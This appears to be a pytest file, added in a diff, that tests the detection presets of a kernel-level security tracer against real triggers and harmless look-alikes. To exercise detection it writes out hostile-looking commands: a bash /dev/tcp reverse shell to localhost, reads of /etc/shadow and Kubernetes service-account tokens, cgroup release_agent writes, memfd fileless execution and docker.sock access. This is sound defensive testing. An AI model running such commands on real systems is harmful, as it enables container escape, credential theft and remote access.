@@ -1,0 +1,392 @@
+"""Every bundled preset (-P NAME) against the real kernel: one trigger that
+must be reported, with policy_name equal to the preset's name, and one
+look-alike that must not, on the host and/or in a test container (new pid,
+mount, net, uts, ipc and cgroup namespaces made with unshare), as the
+preset's scope says.
+
+Note on test containers: `unshare --fork ... sh -c SCRIPT` is how a test
+container starts, so its own set-up is visible to some presets (unshare
+mounts /proc in the new pid namespace, then executes sh): that is the
+documented false positive of container runtimes.  The look-alike checks
+below therefore name the exact process or path that must not be reported,
+not just the test's tag."""
+import json
+import os
+import shlex
+import shutil
+import subprocess
+
+import pytest
+
+from conftest import BIN, Tracer, find, in_container, mark, run
+
+PY = "/usr/bin/python3"
+
+
+def presets():
+    r = subprocess.run([BIN, "--list-presets"], capture_output=True, text=True, check=True)
+    return [line.split()[0] for line in r.stdout.splitlines() if line.strip()]
+
+
+def hits(tr, name, pred=None, text=None):
+    """process_kprobe events of preset `name` (checks policy_name) that
+    contain `text` and satisfy `pred(body)`."""
+    out = []
+    for ev in find(tr.events(), kind="process_kprobe", text=text):
+        b = ev["process_kprobe"]
+        if b.get("policy_name") != name:
+            continue
+        if pred and not pred(b):
+            continue
+        out.append(b)
+    return out
+
+
+def proc(b):
+    return b.get("process", {})
+
+
+def is_host(b):
+    return proc(b).get("ns", {}).get("pid", {}).get("is_host")
+
+
+def args_text(b):
+    return json.dumps(b.get("args", []))
+
+
+def brief(bs):
+    return [(proc(b).get("binary"), proc(b).get("arguments", "")[:80], b.get("function_name"),
+             args_text(b)[:200]) for b in bs[:3]]
+
+
+def sh(cmd, timeout=30):
+    return run(["sh", "-c", cmd], timeout=timeout)
+
+
+# --- every preset is listed, plans on this kernel, and names itself --------
+
+ALL = ["reverse-shell", "suspicious-commands", "sensitive-files", "container-escape",
+       "k8s-token", "k8s-api", "docker-socket", "container-recon", "container-shell",
+       "fileless", "fifo"]
+
+
+def test_all_presets_listed_and_plan():
+    have = presets()
+    for name in ALL:
+        assert name in have, f"{name} missing from --list-presets: {have}"
+    for name in have:
+        r = run([BIN, "--check", "-P", name])
+        assert r.returncode == 0, (name, r.stderr.decode()[-400:])
+        out = r.stdout.decode()
+        assert f'policy "{name}"' in out, (name, out[:200])
+
+
+# --- reverse-shell (the wide suite is test_revshell.py) --------------------
+
+def test_reverse_shell(tag):
+    import socket
+    import threading
+
+    def listen():
+        s = socket.socket()
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.bind(("127.0.0.1", 0))
+        s.listen(1)
+        s.settimeout(8)
+
+        def serve():
+            try:
+                c, _ = s.accept()
+                c.settimeout(3)
+                c.sendall(b"exit\n")
+                while c.recv(4096):
+                    pass
+            except OSError:
+                pass
+            finally:
+                s.close()
+        th = threading.Thread(target=serve, daemon=True)
+        th.start()
+        return s.getsockname()[1], th
+
+    with Tracer("-o", "json", "-P", "reverse-shell") as tr:
+        p1, t1 = listen()
+        sh(f"bash -c 'bash -i >& /dev/tcp/127.0.0.1/{p1} 0>&1'", timeout=15)
+        t1.join(5)
+        p2, t2 = listen()
+        sh(f"nc.traditional -q 1 127.0.0.1 {p2} < /etc/hostname", timeout=15)
+        t2.join(5)
+    assert hits(tr, "reverse-shell", text=f'"dport": {p1}') or \
+        hits(tr, "reverse-shell", text=str(p1)), "bash /dev/tcp not reported"
+    assert not hits(tr, "reverse-shell", text=str(p2)), "nc < file reported"
+
+
+# --- suspicious-commands -----------------------------------------------------
+
+def test_suspicious_commands_host_and_container(tag):
+    t_host, t_ct, n_host, n_ct = mark("sch"), mark("scc"), mark("snh"), mark("snc")
+    with Tracer("-o", "json", "-P", "suspicious-commands") as tr:
+        sh(f"/usr/bin/curl -s -m 1 http://127.0.0.1:9/{t_host} || true")
+        in_container(f"/usr/bin/wget -q -T 1 http://127.0.0.1:9/{t_ct} || true")
+        # look-alikes: a shell on the host (host list has no shells), a
+        # plain program in a container
+        sh(f"/usr/bin/dash -c 'true {n_host}'")
+        in_container(f"/usr/bin/true {n_ct}; true")
+    h = hits(tr, "suspicious-commands", text=t_host,
+             pred=lambda b: proc(b).get("binary") == "/usr/bin/curl")
+    assert h and is_host(h[0]) is True, "host curl not reported"
+    assert "/usr/bin/curl" in args_text(h[0])
+    c = hits(tr, "suspicious-commands", text=t_ct,
+             pred=lambda b: proc(b).get("binary") == "/usr/bin/wget")
+    assert c and is_host(c[0]) is False, "container wget not reported"
+    bad = hits(tr, "suspicious-commands", text=n_host)
+    assert not bad, f"host shell reported: {brief(bad)}"
+    bad = hits(tr, "suspicious-commands", text=n_ct,
+               pred=lambda b: proc(b).get("binary") == "/usr/bin/true")
+    assert not bad, f"container true reported: {brief(bad)}"
+
+
+# --- sensitive-files ---------------------------------------------------------
+
+def test_sensitive_files_scopes(tag):
+    h1, h2, c1, c2, n1, n2, n3 = (mark(p) for p in ("sfh", "sfk", "sfc", "sft", "sfn", "sfs", "sfp"))
+    ssh = f"/root/.ssh/{h2}"
+    os.makedirs("/root/.ssh", exist_ok=True)
+    with open(ssh, "w") as f:
+        f.write("x\n")
+    try:
+        with Tracer("-o", "json", "-P", "sensitive-files") as tr:
+            # triggers: universal list on the host, host list, universal list
+            # in a container, container list (a service-account file on a
+            # tmpfs over the container's own /run)
+            sh(f"cat /etc/shadow /nonexistent-{h1} > /dev/null 2>&1")
+            sh(f"cat {ssh} > /dev/null")
+            in_container(f"cat /etc/shadow /nonexistent-{c1} > /dev/null 2>&1; true")
+            in_container("mount -t tmpfs none /run && mkdir -p /run/secrets/kubernetes.io/serviceaccount && "
+                         f"echo x > /run/secrets/kubernetes.io/serviceaccount/{c2} && "
+                         f"cat /var/run/secrets/kubernetes.io/serviceaccount/{c2} >/dev/null; true")
+            # look-alikes: ordinary files, /etc/passwd (left out on purpose),
+            # and the host-only list read in a container
+            sh(f"cat /etc/hostname /etc/passwd /nonexistent-{n1} > /dev/null 2>&1")
+            in_container(f"cat /etc/hostname /nonexistent-{n2} > /dev/null 2>&1; true")
+            in_container(f"cat {ssh} /nonexistent-{n3} > /dev/null 2>&1; true")
+    finally:
+        os.unlink(ssh)
+    a = hits(tr, "sensitive-files", text=h1, pred=lambda b: proc(b).get("binary") == "/usr/bin/cat")
+    assert a and "/etc/shadow" in args_text(a[0]) and is_host(a[0]) is True, "host /etc/shadow"
+    assert hits(tr, "sensitive-files", text=h2), "host /root/.ssh/ file"
+    c = hits(tr, "sensitive-files", text=c1)
+    assert c and is_host(c[0]) is False, "container /etc/shadow"
+    k = hits(tr, "sensitive-files", pred=lambda b: c2 in args_text(b))
+    assert k and f"/run/secrets/kubernetes.io/serviceaccount/{c2}" in args_text(k[0]), \
+        "container service-account file"
+    for n in (n1, n2, n3):
+        bad = hits(tr, "sensitive-files", text=n)
+        assert not bad, f"look-alike {n} reported: {brief(bad)}"
+
+
+# --- container-escape --------------------------------------------------------
+
+def test_container_escape(tag, tmp_path):
+    m, ra, fdw, ex = mark("cem"), mark("cer"), mark("cef"), mark("cex")
+    nm, nr, nf = mark("cnm"), mark("cnr"), mark("cnf")
+    d = f"/tmp/{m}"
+    fexec = (f"{PY} -c \"import os; fd=os.open('/usr/bin/true', os.O_RDONLY); "
+             f"pid=os.fork()\nif pid==0: os.execve(fd, ['true', '{ex}'], {{}})\nos.waitpid(pid,0)\"")
+    with Tracer("-o", "json", "-P", "container-escape") as tr:
+        # mount in a container
+        in_container(f"mkdir -p {d} && mount -t tmpfs {m} {d}; umount {d}; rmdir {d}")
+        # writes to notify_on_release / release_agent (by relative name too)
+        in_container(f"mkdir -p /tmp/{ra} && cd /tmp/{ra} && echo 1 > notify_on_release && "
+                     f"echo /x > /tmp/{ra}/release_agent; rm -rf /tmp/{ra}")
+        # a directory fd walked through /proc/self/fd
+        in_container(f"exec 7</; cat /proc/self/fd/7/etc/hostname /nonexistent-{fdw} >/dev/null 2>&1; true")
+        # fexecve (execveat AT_EMPTY_PATH)
+        in_container(fexec)
+        # look-alikes: a mount on the host, reading notify_on_release, fd 1
+        os.makedirs(f"/tmp/{nm}")
+        sh(f"mount -t tmpfs {nm} /tmp/{nm} && umount /tmp/{nm}; rmdir /tmp/{nm}")
+        in_container(f"mkdir -p /tmp/{nr} && echo 0 > /tmp/{nr}/x && cat /tmp/{nr}/notify_on_release "
+                     f"/tmp/{nr}/x >/dev/null 2>&1; rm -rf /tmp/{nr}")
+        in_container(f"echo {nf} > /proc/self/fd/1; true")
+    mt = hits(tr, "container-escape", pred=lambda b: b.get("function_name") == "security_sb_mount"
+              and m in args_text(b) and proc(b).get("binary") == "/usr/bin/mount")
+    assert mt and is_host(mt[0]) is False and "tmpfs" in args_text(mt[0]), "container mount"
+    r = hits(tr, "container-escape", text=ra, pred=lambda b: "release_agent" in args_text(b))
+    n = hits(tr, "container-escape", text=ra, pred=lambda b: "notify_on_release" in args_text(b))
+    assert r and n, "release_agent / notify_on_release writes"
+    f = hits(tr, "container-escape", text=fdw, pred=lambda b: "/proc/self/fd/7/" in args_text(b))
+    assert f, "/proc/self/fd/7 walk"
+    x = hits(tr, "container-escape", text=ex, pred=lambda b: "execveat" in b.get("function_name", ""))
+    assert x, "execveat AT_EMPTY_PATH in a container"
+    bad = hits(tr, "container-escape", text=nm)
+    assert not bad, f"host mount reported: {brief(bad)}"
+    bad = hits(tr, "container-escape", pred=lambda b: nr in args_text(b))
+    assert not bad, f"read of notify_on_release reported: {brief(bad)}"
+    bad = hits(tr, "container-escape", text=nf, pred=lambda b: "/proc/self/fd/1" in args_text(b))
+    assert not bad, f"/proc/self/fd/1 reported: {brief(bad)}"
+
+
+# --- k8s-token ---------------------------------------------------------------
+
+SA = "/run/secrets/kubernetes.io/serviceaccount"
+
+
+def sa_setup(stamp):
+    """A kubelet-like service-account volume on a tmpfs over /run (the
+    caller must be in its own mount namespace): token -> ..data/token,
+    ..data -> ..STAMP/."""
+    return (f"mount -t tmpfs none /run && mkdir -p {SA}/..{stamp} && "
+            f"echo tok > {SA}/..{stamp}/token && echo ca > {SA}/..{stamp}/ca.crt && "
+            f"ln -s ..{stamp} {SA}/..data && ln -s ..data/token {SA}/token && "
+            f"ln -s ..data/ca.crt {SA}/ca.crt")
+
+
+def test_k8s_token(tag):
+    t, n1, n2 = mark("kt"), mark("kn"), mark("kh")
+    with Tracer("-o", "json", "-P", "k8s-token") as tr:
+        in_container(sa_setup(t) + f" && cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null; true")
+        # look-alikes: ca.crt in a container; the token read by a host
+        # process (own mount namespace, host pid namespace)
+        in_container(sa_setup(n1) + f" && cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt >/dev/null; true")
+        run(["unshare", "--mount", "sh", "-c",
+             sa_setup(n2) + " && cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null"])
+    cat = lambda b: proc(b).get("binary") == "/usr/bin/cat"  # noqa: E731 (the setup's own writes match too)
+    h = hits(tr, "k8s-token", text=t, pred=cat)
+    assert h, "service-account token read in a container not reported"
+    assert f"..{t}/token" in args_text(h[0]) and is_host(h[0]) is False, brief(h)
+    bad = hits(tr, "k8s-token", text=n1, pred=cat)
+    assert not bad, f"ca.crt reported: {brief(bad)}"
+    bad = hits(tr, "k8s-token", text=n2)
+    assert not bad, f"host token read reported: {brief(bad)}"
+
+
+# --- k8s-api -----------------------------------------------------------------
+
+def connect(host, port, tag):
+    return (f"{PY} -c \"import socket,sys; s=socket.socket(); s.settimeout(1)\n"
+            f"try: s.connect(('{host}', {port}))\nexcept OSError: pass\n# {tag}\"")
+
+
+def test_k8s_api(tag):
+    t1, t2, n1, n2, n3 = mark("ka"), mark("kb"), mark("kn"), mark("ko"), mark("kh")
+    with Tracer("-o", "json", "-P", "k8s-api") as tr:
+        in_container(connect("127.0.0.1", 6443, t1))
+        # the in-cluster API service: a ClusterIP on 443
+        in_container("ip addr add 10.96.0.1/32 dev lo; " + connect("10.96.0.1", 443, t2))
+        # look-alikes: 443 on a non-cluster address, another port, the host
+        in_container(connect("127.0.0.1", 443, n1))
+        in_container(connect("127.0.0.1", 8080, n2))
+        sh(connect("127.0.0.1", 6443, n3))
+    a = hits(tr, "k8s-api", text=t1)
+    assert a and "6443" in args_text(a[0]) and is_host(a[0]) is False, "6443 from a container"
+    b = hits(tr, "k8s-api", text=t2)
+    assert b and "10.96.0.1" in args_text(b[0]), "ClusterIP:443 from a container"
+    for n in (n1, n2, n3):
+        bad = hits(tr, "k8s-api", text=n)
+        assert not bad, f"look-alike {n} reported: {brief(bad)}"
+
+
+# --- docker-socket -----------------------------------------------------------
+
+def test_docker_socket(tag):
+    t1, t2, n1, n2 = mark("ds"), mark("dc"), mark("dn"), mark("dh")
+    opath = (f"{PY} -c \"import os,socket; s=socket.socket(socket.AF_UNIX); s.bind('/run/docker.sock')\n"
+             f"os.open('/var/run/docker.sock', os.O_PATH)\n# {{}}\"")
+    with Tracer("-o", "json", "-P", "docker-socket") as tr:
+        in_container("mount -t tmpfs none /run && " + opath.format(t1))
+        in_container(f"mkdir -p /tmp/{t2} && cp /usr/bin/true /tmp/{t2}/docker && /tmp/{t2}/docker; rm -rf /tmp/{t2}")
+        # look-alikes: another socket in a container; the socket on the host
+        in_container("mount -t tmpfs none /run && " + opath.replace("docker.sock", "other.sock").format(n1))
+        run(["unshare", "--mount", "sh", "-c", "mount -t tmpfs none /run && " + opath.format(n2)])
+    a = hits(tr, "docker-socket", text=t1)
+    assert a and "/run/docker.sock" in args_text(a[0]) and is_host(a[0]) is False, "docker.sock open"
+    assert hits(tr, "docker-socket", text=t2, pred=lambda b: "/docker" in args_text(b)), "docker CLI"
+    for n in (n1, n2):
+        bad = hits(tr, "docker-socket", text=n)
+        assert not bad, f"look-alike {n} reported: {brief(bad)}"
+
+
+# --- container-recon ---------------------------------------------------------
+
+def test_container_recon(tag):
+    t1, t2, t3, n1, n2 = mark("cr"), mark("cd"), mark("cm"), mark("cn"), mark("ch")
+    with Tracer("-o", "json", "-P", "container-recon") as tr:
+        in_container(f"cat /proc/1/cgroup /nonexistent-{t1} >/dev/null 2>&1; true")
+        in_container(f"ls /.dockerenv /nonexistent-{t2} >/dev/null 2>&1; true")
+        in_container(f"cat /proc/self/mountinfo /nonexistent-{t3} >/dev/null 2>&1; true")
+        # look-alikes: another /proc file in a container; the host's /proc/1/cgroup
+        in_container(f"cat /proc/self/status /nonexistent-{n1} >/dev/null 2>&1; true")
+        sh(f"cat /proc/1/cgroup /.dockerenv /nonexistent-{n2} >/dev/null 2>&1")
+    a = hits(tr, "container-recon", text=t1)
+    assert a and "/proc/1/cgroup" in args_text(a[0]) and is_host(a[0]) is False, "/proc/1/cgroup"
+    assert hits(tr, "container-recon", text=t2, pred=lambda b: "/.dockerenv" in args_text(b)), "ls /.dockerenv"
+    assert hits(tr, "container-recon", text=t3, pred=lambda b: "/mountinfo" in args_text(b)), "mountinfo"
+    for n in (n1, n2):
+        bad = hits(tr, "container-recon", text=n)
+        assert not bad, f"look-alike {n} reported: {brief(bad)}"
+
+
+# --- container-shell ---------------------------------------------------------
+
+def test_container_shell(tag):
+    t, n1, n2 = mark("cs"), mark("cn"), mark("ch")
+    spawn = f"{PY} -c \"import os; os.system('true {{}}')\""
+    with Tracer("-o", "json", "-P", "container-shell") as tr:
+        in_container(spawn.format(t) + "; true")
+        # look-alikes: a shell started by a shell in a container; a
+        # non-shell starting a shell on the host
+        in_container(f"sh -c 'sh -c \"true {n1}\"; true'; true")
+        sh(spawn.format(n2))
+    a = hits(tr, "container-shell", text=t, pred=lambda b: proc(b).get("binary") == PY)
+    assert a and is_host(a[0]) is False and "/bin/sh" in args_text(a[0]), "python -> sh in a container"
+    # the test container's own entry (unshare executing sh) is the documented
+    # runtime false positive; nothing else may carry the look-alike's tag
+    bad = hits(tr, "container-shell", text=n1,
+               pred=lambda b: proc(b).get("binary") != "/usr/bin/unshare")
+    assert not bad, f"sh -> sh reported: {brief(bad)}"
+    bad = hits(tr, "container-shell", text=n2)
+    assert not bad, f"host python -> sh reported: {brief(bad)}"
+
+
+# --- fileless ----------------------------------------------------------------
+
+MEMFD = (f"{PY} -c \"import os,sys; fd=os.memfd_create('x', 0); "
+         f"os.write(fd, open('/usr/bin/true','rb').read())\n"
+         f"os.execve({{how}}, ['memfd', '{{tag}}'], {{{{}}}})\"")
+
+
+def test_fileless(tag):
+    t1, t2, t3, n1 = mark("fp"), mark("fe"), mark("fc"), mark("fn")
+    with Tracer("-o", "json", "-P", "fileless") as tr:
+        sh(MEMFD.format(how="f'/proc/self/fd/{fd}'", tag=t1))
+        sh(MEMFD.format(how="fd", tag=t2))
+        in_container(MEMFD.format(how="f'/proc/self/fd/{fd}'", tag=t3) + "; true")
+        # look-alike: the same program executed from its file
+        sh(f"{PY} -c \"import os; os.execve('/usr/bin/true', ['true', '{n1}'], {{}})\"")
+    a = hits(tr, "fileless", text=t1, pred=lambda b: b.get("function_name") == "security_bprm_check")
+    assert a and is_host(a[0]) is True, "memfd exec through /proc/self/fd"
+    assert hits(tr, "fileless", text=t1, pred=lambda b: "/proc/self/fd/" in args_text(b)), "execve /proc/self/fd"
+    assert hits(tr, "fileless", text=t2, pred=lambda b: "execveat" in b.get("function_name", "")), "fexecve"
+    c = hits(tr, "fileless", text=t3)
+    assert c and is_host(c[0]) is False, "memfd exec in a container"
+    bad = hits(tr, "fileless", text=n1)
+    assert not bad, f"plain exec reported: {brief(bad)}"
+
+
+# --- fifo --------------------------------------------------------------------
+
+def test_fifo(tag, tmp_path):
+    t1, t2, n1 = mark("ff"), mark("fc"), mark("fn")
+    with Tracer("-o", "json", "-P", "fifo") as tr:
+        sh(f"mkfifo {tmp_path}/{t1}; true")  # not the last command: dash would exec it in place of the shell
+        in_container(f"mkfifo /tmp/{t2}; rm -f /tmp/{t2}")
+        # look-alike: a FIFO made by a program whose parent is not a shell
+        # (this Python process starts mkfifo directly)
+        subprocess.run(["/usr/bin/mkfifo", f"{tmp_path}/{n1}"], check=True)
+    a = hits(tr, "fifo", text=t1)
+    assert a and proc(a[0]).get("binary") == "/usr/bin/mkfifo", brief(a)
+    c = hits(tr, "fifo", text=t2)
+    assert c and is_host(c[0]) is False, "mkfifo in a container"
+    bad = hits(tr, "fifo", text=n1)
+    assert not bad, f"mkfifo without a shell parent reported: {brief(bad)}"
